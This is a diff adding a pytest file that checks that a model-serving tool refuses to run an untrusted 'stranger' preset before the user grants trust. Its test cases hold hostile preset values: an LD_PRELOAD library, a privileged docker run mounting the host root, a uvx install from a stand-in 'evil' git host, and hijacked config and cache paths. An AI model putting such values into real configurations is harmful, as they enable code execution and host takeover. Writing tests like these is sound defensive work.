@@ -1,0 +1,135 @@
+"""A stranger's preset: nothing of it runs before its user agreed, and check, plan and start say the same of it."""
+
+from __future__ import annotations
+
+import asyncio
+import re
+from pathlib import Path
+
+import pytest
+
+from workbench.model.errors import NotTrusted
+from workbench.session.session import Session
+from workbench.store import paths
+from workbench.store.preset_check import check
+
+PRESET = """schema = 1
+id = "stranger"
+title = "From a stranger"
+summary = "as it came"
+[hardware]
+count = 1
+[engine]
+name = "{engine}"
+{executable}
+[model]
+id = "org/tiny"
+{flags}
+[env]
+{env}
+[provenance]
+document = "a mail"
+status = "untested"
+"""
+CASES = {
+    "relative": ("llamacpp", 'executable = ["./payload"]', ""),
+    "absolute": ("llamacpp", 'executable = ["HERE/payload", "serve"]', ""),
+    "shebang": ("vllm", 'executable = ["./vllm"]', ""),
+    "interpreter": ("vllm", 'executable = ["python3", "HERE/evil.py"]', ""),
+    "container": ("vllm", 'executable = ["docker", "run", "--privileged", "-v", "/:/host", "evil"]', ""),
+    "uvx": ("vllm", 'executable = ["uvx", "--from", "git+https://box.invalid/evil", "vllm"]', ""),
+    "nice": ("vllm", 'executable = ["nice", "HERE/payload"]', ""),
+    "checkout": ("tabbyapi", 'workdir = "HERE"', ""),
+    "preload": ("vllm", "", 'LD_PRELOAD = "HERE/evil.so"'),
+    "python": ("vllm", "", 'PYTHONPYCACHEPREFIX = "HERE"'),
+    "logging": ("vllm", "", 'VLLM_LOGGING_CONFIG_PATH = "HERE/evil.json"'),
+    "cache": ("vllm", "", 'TORCHINDUCTOR_CACHE_DIR = "HERE"'),
+    "home": ("vllm", "", 'HF_HOME = "HERE"'),
+    "config home": ("vllm", "", 'XDG_CONFIG_HOME = "HERE"'),
+}
+
+
+def preset(folder: Path, case: str, name: str = "stranger.toml") -> Path:
+    engine, executable, env = (part.replace("HERE", str(folder)) for part in CASES[case])
+    path = folder / name
+    path.write_text(PRESET.format(engine=engine, executable=executable, env=env, flags=""))
+    return path
+
+
+@pytest.fixture
+def clone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A cloned repository as the current directory: every program in it leaves a mark."""
+    folder = tmp_path / "clone"
+    folder.mkdir()
+    for name in ("payload", "vllm", "llama-server", "docker", "uvx", "nice", "evilpython"):
+        first = f"#!{folder}/evilpython" if name == "vllm" else "#!/bin/sh"
+        (folder / name).write_text(f"{first}\ntouch {tmp_path}/mark\n")
+        (folder / name).chmod(0o755)
+    (folder / "evil.py").write_text(f"open({str(tmp_path / 'mark')!r}, 'w')\n")
+    (folder / "main.py").write_text(f"open({str(tmp_path / 'mark')!r}, 'w')\n")
+    monkeypatch.chdir(folder)
+    return folder
+
+
+@pytest.mark.parametrize("case", CASES)
+def test_loading_planning_checking_and_drawing_run_nothing_and_say_the_same(clone: Path, case: str) -> None:
+    path = preset(clone, case)
+
+    async def scenario() -> None:
+        session = Session.of_host()
+        try:
+            await session.connect()
+            await session.load_preset(str(path))
+            await session.look_for_engine()
+            view = session.plan_view()
+            checked = {(f.code, re.sub(r"^[\w.]+: ", "", f.text)) for f in check(path) if "--trust" in (f.fix or "")}
+            planned = {(f.code, f.text) for f in view.findings if "--trust" in (f.fix or "")}
+            with pytest.raises(NotTrusted) as refused:
+                await session.start()
+            assert checked == planned == {(f.code, f.text) for f in refused.value.findings} != set()
+            assert "--trust" in (refused.value.next_step or "")
+        finally:
+            await session.close()
+
+    asyncio.run(asyncio.wait_for(scenario(), 30))
+    assert not (clone.parent / "mark").exists()
+
+
+def test_trust_is_remembered_until_what_runs_changes(clone: Path) -> None:
+    session = Session.of_host()
+
+    def asked(case: str) -> int:
+        path = preset(clone, case)
+        session.take_plan(session.plan_of(str(path)), "stranger")
+        return len(session.untrusted())
+
+    assert asked("preload") == 1
+    session.trust()
+    assert (session.untrusted(), asked("preload"), asked("logging")) == ((), 0, 1)
+    (clone / "stranger.toml").write_text(preset(clone, "preload").read_text().replace("evil.so", "other.so"))
+    session.take_plan(session.plan_of(str(clone / "stranger.toml")), "stranger")
+    assert len(session.untrusted()) == 1
+    assert (paths.state_dir() / "trusted.json").stat().st_mode & 0o777 == 0o600
+
+
+def test_a_copy_in_the_own_directory_asks_too_and_what_the_user_sets_does_not(clone: Path) -> None:
+    own = paths.own_presets_dir()
+    own.mkdir(parents=True)
+    preset(clone, "preload").rename(own / "stranger.toml")
+    session = Session.of_host()
+    session.take_plan(session.plan_of("stranger"), "stranger")
+    assert [f.flag for f in session.untrusted()] == ["LD_PRELOAD"]
+    session.take_plan(session.plan_of("vllm-any"), "vllm-any")
+    session.editor.assign(["executable=/opt/mine/vllm serve"], [], ["LD_PRELOAD=/opt/mine.so"])
+    assert session.untrusted() == ()
+    asyncio.run(session.save_preset("mine", "Mine"))
+    session.take_plan(session.plan_of("mine"), "mine")
+    assert "/opt/mine.so" in repr(session.editor.command().env) and session.untrusted() == ()
+
+
+def test_no_shipped_preset_asks(monkeypatch: pytest.MonkeyPatch) -> None:
+    session = Session.of_host(None, "four-pcie")
+    session.list_presets()
+    for entry in session.state.presets:
+        session.take_plan(session.plan_of(entry.id), entry.id)
+        assert session.untrusted() == ()
